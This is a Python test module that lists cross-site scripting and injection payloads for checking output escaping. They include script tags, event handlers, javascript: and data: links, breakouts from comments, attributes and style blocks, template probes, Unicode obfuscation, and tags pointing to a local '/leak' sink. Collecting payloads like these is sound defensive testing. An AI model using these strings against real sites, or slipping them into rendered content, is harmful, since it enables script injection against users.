"""Texts that want to become markup, a script or a link wherever they are shown."""

from __future__ import annotations

RUN = "window.__pwned=1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "closing script": f"</script><script>{RUN}</script>",
    "closing script with space": f"</ScRiPt\t><ScRiPt>{RUN}</sCrIpT >",
    "double escaped script": f"<!--<script>{RUN}</script>",
    "event handler": f'<img src="x" onerror="{RUN}">',
    "svg": f"<svg/onload={RUN}>",
    "out of an attribute": f'"\' onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "javascript link": f'<a href="javascript:{RUN}">click</a>',
    "Markdown link": f"[click](javascript:{RUN}) ![x](http://127.0.0.1:9/leak) <javascript:{RUN}>",
    "data page": f'<iframe src="data:text/html,<script>{RUN}</script>" srcdoc="<script>{RUN}</script>"></iframe>',
    "template": "{{ 7*7 }}{% include 'page.css' %}{# x #}${7*7}<%= 7*7 %>",
    "closing comment": f"--><script>{RUN}</script><!--",
    "closing CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "closing style": f"</style><script>{RUN}</script>",
    "closing title": f"</title></pre></textarea></noscript><script>{RUN}</script>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "JSON escape": f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "form": '<form action="http://127.0.0.1:9/"><button formaction="http://127.0.0.1:9/">x</button></form>',
    "base and refresh": '<base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
    "stylesheet": '<link rel="stylesheet" href="http://127.0.0.1:9/x.css"><style>@import "http://127.0.0.1:9/y";</style>',
    "bidi": f"\u202e<script>{RUN}</script>\u2066\u2069\u200b",
    "NUL": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00<\x00img src=x onerror={RUN}>",
    "line separators": f"\u2028<script>{RUN}</script>\u2029\x85\x0b\x0c",
    "lone surrogate": f"\ud800<script>{RUN}</script>\udfff",
    "fence": f"```\n</pre>\n````\n<script>{RUN}</script>\n~~~",
}
